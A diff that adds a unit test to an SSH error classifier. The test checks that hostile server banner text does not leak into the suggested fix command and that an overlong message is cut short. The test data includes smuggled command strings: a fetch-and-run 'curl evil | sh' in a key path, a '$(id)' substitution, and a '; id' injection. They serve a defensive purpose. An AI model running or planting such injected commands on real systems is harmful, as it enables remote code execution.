@@ -103,3 +103,18 @@ it('debugging lines are not taken for what went wrong', () => {
   ];
   expect(codeOf(lines, { isVerbose: true })).toBe('closed-by-host');
 });
+
+it('what the other machine says in its banner becomes no command to copy, and fills no page', () => {
+  const lines = [
+    'Offending ED25519 key in /x"; curl evil | sh; ":1',
+    'Host key for $(id) has changed and you have requested strict checking.',
+    'REMOTE HOST IDENTIFICATION HAS CHANGED!',
+  ];
+  const { problem } = classifySsh(lines, { tunnel: TUNNEL, isVerbose: false });
+  expect(problem.suggestion).toMatch(/: ssh-keygen -f "~\/\.ssh\/known_hosts" -R "b"$/);
+  const open = classifySsh(["Permissions 0644 for '/k; id' are too open."], { tunnel: TUNNEL, isVerbose: false });
+  expect(open.problem.suggestion).not.toContain('; id');
+  const long = classifySsh([`\u001b[31m${'x'.repeat(16_000)}`], { tunnel: TUNNEL, isVerbose: false });
+  expect(long.problem.message.length).toBeLessThan(500);
+  expect(long.problem.message).not.toMatch(/\p{Cc}/u);
+});
